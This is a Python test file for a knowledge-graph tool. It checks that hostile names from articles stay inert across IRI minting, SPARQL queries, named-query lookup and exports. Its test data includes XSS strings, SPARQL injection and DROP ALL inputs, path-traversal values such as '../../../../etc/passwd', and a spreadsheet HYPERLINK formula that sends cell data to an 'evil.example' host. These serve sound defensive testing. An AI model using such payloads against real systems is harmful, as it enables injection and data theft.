"""Let nothing in: names and sentences from hostile articles stay data everywhere they go. IRIs
minted from them are valid and cannot break out of Turtle or SPARQL; query parameters are bound,
never pasted; named-query lookup cannot leave ``kg/queries``; ``kg query`` runs no updates; every
export format carries the hostile text as text (spreadsheet formulas neutralised, XML kept valid).
The HTML views are checked in headless Chromium in ``test_browser.py``."""
from __future__ import annotations

import csv
import io
import json

import networkx as nx
import pyoxigraph as ox
import pytest
import rdflib

from kg.api import KnowledgeGraph
from kg.errors import QueryError
from kg.rdf.iris import (
    actor_iri,
    article_iri,
    assertion_iri,
    event_iri,
    graph_iri,
    import_graph_iri,
    issue_iri,
    place_iri,
    selector_iri,
)
from kg.sparql.named import load_query

HOSTILE = [
    'Evil "quoted" name',
    "O'Brien's \"Hammer\"",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(1)",
    "a > b < c & d",
    "line one\nline two\r\n\tend",
    '"} ; DROP ALL ; #',
    '"> . <http://evil/s> <http://evil/p> "x',
    "\\u0022 } DROP ALL #",
    "back\\slash\\",
    "Asimi Goïta",
    "Мали хунта",
    "المجلس العسكري",
    "军政府",
    "rtl \u202egnp.exe",
    "zero\u200bwidth",
    "emoji 🪖🔥",
    "   ",
    "",
    "x" * 500,
]
RDFS_LABEL = ox.NamedNode("http://www.w3.org/2000/01/rdf-schema#label")


def minted(name: str) -> list[str]:
    assertion = assertion_iri(name, 0, 5, str(event_iri("Arrest", name, name, "2025")))
    return [str(i) for i in (actor_iri(name), issue_iri(name), place_iri(name), event_iri(name, name, name, name, name),
                             article_iri(name), graph_iri(name), assertion, selector_iri(assertion), import_graph_iri(name))]


@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_iris_minted_from_any_name_are_valid_and_stay_inside_turtle_and_sparql(name):
    store = ox.Store()
    for iri in minted(name):
        assert iri.isascii() and not any(c in iri for c in ' "<>{}|\\^`\n\r\t')
        node = ox.NamedNode(iri)  # Oxigraph refuses invalid IRIs
        store.add(ox.Quad(node, RDFS_LABEL, ox.Literal(name)))
    turtle = ox.serialize(store, format=ox.RdfFormat.N_QUADS).decode("utf-8")
    parsed = {(str(t.subject), t.object.value) for t in ox.parse(turtle, format=ox.RdfFormat.N_QUADS)}
    assert parsed == {(f"<{iri}>", name) for iri in minted(name)}
    graph = rdflib.Graph().parse(data=ox.serialize(store, format=ox.RdfFormat.TURTLE).decode("utf-8"), format="turtle")
    assert {str(o) for o in graph.objects()} == {name}
    for iri in minted(name):
        rows = list(store.query(f"SELECT ?l WHERE {{ <{iri}> <{RDFS_LABEL.value}> ?l }}"))
        assert [r["l"].value for r in rows] == [name]


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory, extractor):
    """A store built from an article, whose actor labels and a sentence are then made hostile, as
    another tool writing the store (or a later, stranger article) might make them."""
    folder = tmp_path_factory.mktemp("hostile")
    article = folder / "probe.md"
    article.write_text("---\ntitle: \"Probe \\\"quoted\\\" <b>bold</b>\"\npublished: 2025-06\n---\n"
                       "Malian soldiers arrested opposition leader Moussa Mara in Bamako on 1 August 2025.\n", encoding="utf-8")
    graph = KnowledgeGraph(str(folder / "store"))
    graph.build([article], extractor=extractor)
    kgo = "https://w3id.org/kg/ontology#"
    names = {"agent": '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script>',
             "target": "O'Brien \"the Hammer\"\x01 \n<img src=x onerror=alert(1)>"}
    for role, name in names.items():
        label = ox.Literal(name)
        graph.store.store.update(
            f"DELETE {{ GRAPH ?g {{ ?a <{RDFS_LABEL.value}> ?l }} }} INSERT {{ GRAPH ?g {{ ?a <{RDFS_LABEL.value}> {label} }} }} "
            f"WHERE {{ GRAPH ?g {{ ?e <{kgo}{role}> ?a . ?a <{RDFS_LABEL.value}> ?l }} }}")
    sentence = ox.Literal('-2+3 "said" <a href="javascript:alert(1)">he</a>')
    graph.store.store.update(f"DELETE {{ GRAPH ?g {{ ?a <{kgo}sentence> ?s }} }} INSERT {{ GRAPH ?g {{ ?a <{kgo}sentence> {sentence} }} }} "
                             f"WHERE {{ GRAPH ?g {{ ?a <{kgo}sentence> ?s }} }}")
    return graph, names, sentence.value


@pytest.mark.model
def test_query_parameters_are_bound_never_pasted(hostile_store):
    graph, names, _ = hostile_store
    before = len(graph.store.store)
    for value in ['x" } } SELECT * WHERE { ?s ?p ?o } #', '"} ; DROP ALL ; #', "\\u0022) } #", "Arrest> ; <x", "?actor", "$type"]:
        with pytest.raises(QueryError, match="no actor"):  # no actor has such a name: an error, not an empty answer
            graph.named("actor-timeline", {"actor": value})
        with pytest.raises(QueryError, match="no event type"):
            graph.named("events-of-type", {"type": value})
        assert graph.query(load_query("actor-timeline").text, {"actor": value})[1] == []  # bound as it is, it finds nothing
        assert graph.query(load_query("events-of-type").text, {"type": value})[1] == []
    _, rows = graph.named("actor-timeline", {"actor": names["target"]})  # a hostile name is found as itself
    assert rows and {r[1].value for r in rows} == {"target"}
    _, rows = graph.named("actor-timeline", {"actor": names["agent"].upper()})
    assert rows and {r[1].value for r in rows} == {"agent"}
    assert len(graph.store.store) == before


@pytest.mark.parametrize("name", ["../../../../etc/passwd", "/etc/passwd", "who-did-what/../../x", "..", ".",
                                  "who-did-what.rq", "WHO-DID-WHAT", "who-did-what\x00", "who did what", "%2e%2e%2fx",
                                  "..\\queries\\who-did-what", "~/x", "queries/who-did-what", ""])
def test_named_query_lookup_cannot_leave_the_queries_folder(name):
    with pytest.raises(QueryError, match="no named query"):
        load_query(name)


@pytest.mark.parametrize("update", ["DROP ALL", "CLEAR DEFAULT", "INSERT DATA { <http://a> <http://b> <http://c> }",
                                    "DELETE WHERE { ?s ?p ?o }", "LOAD <http://example.org/x.ttl>",
                                    "SELECT * WHERE { ?s ?p ?o } ; DROP ALL"])
@pytest.mark.model
def test_kg_query_runs_no_updates(hostile_store, update):
    graph, _, _ = hostile_store
    before = len(graph.store.store)
    with pytest.raises(QueryError, match="SPARQL syntax error"):
        graph.query(update)
    assert len(graph.store.store) == before


@pytest.mark.model
@pytest.mark.parametrize("fmt", ["ttl", "trig", "nt", "nq", "jsonld"])
def test_rdf_exports_carry_hostile_text_as_text(hostile_store, tmp_path, fmt):
    graph, names, sentence = hostile_store
    out = graph.export(fmt, tmp_path / f"g.{fmt}")
    kind = {"ttl": ox.RdfFormat.TURTLE, "trig": ox.RdfFormat.TRIG, "nt": ox.RdfFormat.N_TRIPLES,
            "nq": ox.RdfFormat.N_QUADS, "jsonld": ox.RdfFormat.JSON_LD}[fmt]
    values = {q.object.value for q in ox.parse(path=str(out), format=kind) if isinstance(q.object, ox.Literal)}
    assert {names["agent"], names["target"], sentence} <= values


@pytest.mark.model
def test_network_exports_stay_valid_xml_and_csv_neutralises_formulas(hostile_store, tmp_path):
    graph, names, sentence = hostile_store
    for fmt, read in (("graphml", nx.read_graphml), ("gexf", nx.read_gexf)):
        network = read(graph.export(fmt, tmp_path / f"g.{fmt}"))
        labels = {data.get("label") for _, data in network.nodes(data=True)}
        assert names["agent"] in labels and names["target"].replace("\x01", "\ufffd") in labels
    rows = list(csv.DictReader(io.StringIO(graph.export("csv", tmp_path / "g.csv").read_text(encoding="utf-8"))))
    arrest = next(r for r in rows if r["kg_event_type"] == "Arrest")
    assert arrest["actor1"] == "'" + names["agent"]  # shown as text in a spreadsheet, never run
    assert arrest["actor2"] == names["target"] and arrest["notes"] == "'" + sentence
    assert not [cell for row in rows for column, cell in row.items()
                if column not in ("latitude", "longitude") and cell[:1] in ("=", "+", "-", "@")]


@pytest.mark.model
def test_query_results_carry_hostile_text_as_text(hostile_store):
    from kg.sparql.results import format_results

    graph, names, _ = hostile_store
    columns, rows = graph.named("who-did-what")
    data = json.loads(format_results(columns, rows, "json"))
    assert names["agent"] in {b["actor"]["value"] for b in data["results"]["bindings"] if "actor" in b}
    parsed = list(csv.reader(io.StringIO(format_results(columns, rows, "csv"))))
    assert names["target"] in {cell for row in parsed for cell in row}
